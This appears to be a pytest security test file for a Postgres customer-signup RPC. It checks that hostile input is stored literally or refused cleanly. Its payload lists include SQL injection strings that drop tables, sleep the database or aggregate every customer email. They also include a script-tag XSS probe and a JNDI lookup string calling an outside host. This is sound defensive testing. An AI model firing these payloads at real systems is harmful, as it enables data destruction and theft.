"""SQL injection and hostile text in every field of the request body.

Every value is either stored and returned literally, or refused with a stable code before
anything is written. Refusals are checked against a full snapshot of the data.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from support.helpers import call_rpc, create_auth_user, expect_error, table_snapshot
from support.security import Conn

INJECTIONS = [
    "O'Brien",
    "'; drop table customers;--",
    "Robert'); DROP TABLE public.customers; --",
    '" or 1=1 --',
    "$$; select pg_sleep(10); $$",
    "\\'; select 1; --",
    "x' || (select string_agg(email, ',') from public.customers) || '",
    "<script>alert(1)</script>",
    "{{7*7}} ${jndi:ldap://example.com/a}",
    "null",  # a placeholder only where identifiers are read; a name may be "null"
]
EMOJI_AND_SCRIPTS = [
    "👩🏽‍🍳 Zoë",
    "Zoe\u0308",  # combining diaeresis: not normalised to NFC
    "محمد",
    "李小龍",
    "Ǉoão Ñúñez",
    "\u0645\u0647\u200c\u0633\u0627",  # Persian, with the zero-width non-joiner it needs
]
# A name the summary would speak must have a letter: these are refused with invalid_name.
NO_LETTER = ["%_\\%", "🍕🍕🍕", "12345", "' -- ;", "\u00a0\u00a0"]
BIDI = [
    "abc\u202edcba",  # right-to-left override
    "\u200fMallory",  # right-to-left mark
    "Mal\u2066lory\u2069",  # isolates
    "Mal\u200blory",  # zero-width space
    "Mal\u2028lory",  # line separator
]
UNICODE_EMAILS = [
    "zoë@example.com",
    "user@exämple.com",
    "\uff55\uff53\uff45\uff52@example.com",  # fullwidth letters
    "user\uff20example.com",  # fullwidth @
    "user@example.com\u202e",
    "us\u200ber@example.com",
]
CONTROL_NAMES = ["Ann\tLee", "Ann\nLee", "Ann\x1b[31mLee", "Ann\x7fLee", "Ann\rLee"]
TEN_KB = "A" * 10_240


def phones() -> Iterator[str]:
    """Distinct valid phones, so the per-identifier rate limit never interferes."""
    for n in range(10_000):
        yield f"+1555310{n:04d}"


def tables_intact(conn: Conn) -> None:
    """Every table the kit created still exists."""
    for table in ("public.customers", "public.orders", "customer_management.customer_identifiers"):
        row = conn.execute("select to_regclass(%s) is not null", (table,)).fetchone()
        assert row == (True,), table


def stored_name(conn: Conn, customer_id: str) -> tuple[Any, ...]:
    """first_name, last_name and allergies as stored."""
    row = conn.execute(
        "select first_name, last_name, allergies from public.customers where id = %s",
        (customer_id,),
    ).fetchone()
    assert row is not None
    return tuple(row)


@pytest.mark.parametrize("role", ["service_role", "authenticated"])
def test_hostile_names_and_allergies_are_stored_literally(conn: Conn, role: str) -> None:
    """Quotes, ;--, $$, template syntax, emoji and scripts: stored and returned unchanged."""
    phone = phones()
    for n, text in enumerate([*INJECTIONS, *EMOJI_AND_SCRIPTS]):
        body: dict[str, Any] = {
            "firstName": text,
            "lastName": text,
            "allergies": [text],
            "source": "chatbot" if role == "service_role" else "webapp",
        }
        claims: dict[str, Any] | None = None
        if role == "service_role":
            body["phone"] = next(phone)
        else:
            _, claims = create_auth_user(conn, email=f"hostile{n}@example.com")
        response = call_rpc(conn, body, role, claims)
        customer = response["customer"]
        assert customer["name"] == f"{text} {text}", text
        assert customer["allergies"] == [text], text
        assert customer["isNewAccount"] is True
        assert response["summary"].startswith(f"Welcome {text}!"), text
        assert stored_name(conn, customer["id"]) == (text, text, [text]), text
    tables_intact(conn)
    count = conn.execute("select count(*) from public.customers").fetchone()
    assert count == (len(INJECTIONS) + len(EMOJI_AND_SCRIPTS),)


def test_bidi_zero_width_and_letterless_names_are_refused(conn: Conn) -> None:
    """Right-to-left overrides, marks, isolates and joiners hide or reorder what the summary
    says; a name without a letter is no name: invalid_name, nothing written."""
    phone = phones()
    before = table_snapshot(conn)
    for text in [*BIDI, *NO_LETTER]:
        error = expect_error(conn, {"phone": next(phone), "firstName": text, "source": "chatbot"})
        assert (error["sqlstate"], error["message"]) == ("P0001", "invalid_name"), ascii(text)
    assert table_snapshot(conn) == before


def test_hostile_text_in_identifier_fields_is_refused(conn: Conn) -> None:
    """Injection text as phone, email, source, authUserId or mergeIfFound: a stable code."""
    _, claims = create_auth_user(conn, email="mallory@example.net")
    before = table_snapshot(conn)
    expected = {
        "phone": "invalid_phone",
        "email": "invalid_email",
        "source": "invalid_source",
        "authUserId": "invalid_auth_user_id",
    }
    for field, code in expected.items():
        for text in INJECTIONS:
            if text == "null" and field in ("phone", "email"):
                continue  # a placeholder: ignored, covered by the normalisation tests
            body: dict[str, Any] = {"phone": "+15553100000", "source": "chatbot", field: text}
            for role, role_claims in (("service_role", None), ("authenticated", claims)):
                error = expect_error(conn, body, role, role_claims)
                assert (error["sqlstate"], error["message"]) == ("P0001", code), (field, text)
    for value in ("true; drop table customers", "1", ["x"], {"a": 1}):
        error = expect_error(
            conn, {"phone": "+15553100000", "source": "chatbot", "mergeIfFound": value}
        )
        assert error["message"] == "invalid_request", value
    assert table_snapshot(conn) == before
    tables_intact(conn)


def test_email_with_quotes_is_stored_literally(conn: Conn) -> None:
    """A valid address with ' and + is an email like any other: stored as sent."""
    for email in ("o'brien+pizza@example.com", "x'||'y@example.com"):
        response = call_rpc(conn, {"email": email, "source": "webapp"})
        assert response["customer"]["email"] == email
        stored = conn.execute(
            "select value from customer_management.customer_identifiers where type = 'email' "
            "and value = %s",
            (email,),
        ).fetchone()
        assert stored == (email,)


def test_unicode_emails_are_refused(conn: Conn) -> None:
    """Non-ASCII addresses (IDN, fullwidth, bidi, zero-width): invalid_email, nothing written."""
    before = table_snapshot(conn)
    for email in UNICODE_EMAILS:
        error = expect_error(conn, {"email": email, "source": "chatbot"})
        assert (error["sqlstate"], error["message"]) == ("P0001", "invalid_email"), ascii(email)
    assert table_snapshot(conn) == before


def test_control_characters_in_names_are_refused(conn: Conn) -> None:
    """Tabs, newlines, escapes and DEL in a name: invalid_name, nothing written."""
    before = table_snapshot(conn)
    for name in CONTROL_NAMES:
        for field in ("firstName", "lastName"):
            error = expect_error(conn, {"phone": "+15553100001", "source": "chatbot", field: name})
            assert (error["sqlstate"], error["message"]) == ("P0001", "invalid_name"), ascii(name)
    assert table_snapshot(conn) == before


@pytest.mark.parametrize(
    "body",
    [
        {"firstName": "Ann\u0000Lee"},
        {"lastName": "\u0000"},
        {"phone": "+1555310\u00000001"},
        {"email": "ann@example.com\u0000"},
        {"source": "chatbot\u0000"},
        {"authUserId": "\u0000"},
        {"allergies": ["nuts\u0000"]},
        {"unknown\u0000key": 1},
    ],
    ids=lambda body: next(iter(body)).replace("\u0000", "NUL"),
)
def test_nul_bytes_are_refused_before_the_function(conn: Conn, body: dict[str, Any]) -> None:
    """JSON \\u0000 cannot become jsonb text: Postgres answers 22P05, nothing is written."""
    payload = {"phone": "+15553100002", "source": "chatbot", **body}
    assert "\\u0000" in json.dumps(payload)
    _, claims = create_auth_user(conn, email="nul@example.com")
    before = table_snapshot(conn)
    for role, role_claims in (("service_role", None), ("authenticated", claims)):
        error = expect_error(conn, payload, role, role_claims)
        assert error["sqlstate"] == "22P05", error
    assert table_snapshot(conn) == before


def test_ten_kilobyte_fields_are_refused_with_stable_codes(conn: Conn) -> None:
    """10 KB in a field: the field's own code; the body is still under 16 KB."""
    expected = {
        "firstName": "name_too_long",
        "lastName": "name_too_long",
        "phone": "invalid_phone",
        "email": "invalid_email",
        "source": "invalid_source",
        "authUserId": "invalid_auth_user_id",
    }
    before = table_snapshot(conn)
    for field, code in expected.items():
        body = {"phone": "+15553100003", "source": "chatbot", field: TEN_KB}
        error = expect_error(conn, body)
        assert (error["sqlstate"], error["message"]) == ("P0001", code), field
    error = expect_error(
        conn, {"phone": "+15553100003", "source": "chatbot", "allergies": [TEN_KB]}
    )
    assert error["message"] == "invalid_allergies"
    error = expect_error(
        conn, {"phone": "+15553100003", "source": "chatbot", "email": f"{TEN_KB}@example.com"}
    )
    assert error["message"] == "invalid_email"
    assert table_snapshot(conn) == before


def test_unknown_ten_kilobyte_field_is_ignored_not_stored(conn: Conn) -> None:
    """A 10 KB unknown field is ignored and reported by name only; its value goes nowhere."""
    response = call_rpc(conn, {"phone": "+15553100004", "source": "chatbot", "junk": TEN_KB})
    assert response["notices"][0]["code"] == "unknown_fields_ignored"
    assert response["notices"][0]["fields"] == ["junk"]
    assert TEN_KB not in json.dumps(response)
    stored = conn.execute(
        "select count(*) from public.customers as c where c::text like '%AAAAAAAAAA%'"
    ).fetchone()
    assert stored == (0,)


@pytest.mark.parametrize("field", ["firstName", "junk", "allergies"])
def test_body_over_sixteen_kilobytes_is_payload_too_large(conn: Conn, field: str) -> None:
    """A body over 16 KB is refused first, whatever field makes it large: PT413."""
    big: Any = ["x" * 99] * 200 if field == "allergies" else "B" * 17_000
    _, claims = create_auth_user(conn, email="big@example.com")
    before = table_snapshot(conn)
    for role, role_claims in (("service_role", None), ("authenticated", claims)):
        error = expect_error(
            conn, {"phone": "+15553100005", "source": "chatbot", field: big}, role, role_claims
        )
        assert (error["sqlstate"], error["message"]) == ("PT413", "payload_too_large"), error
    assert table_snapshot(conn) == before
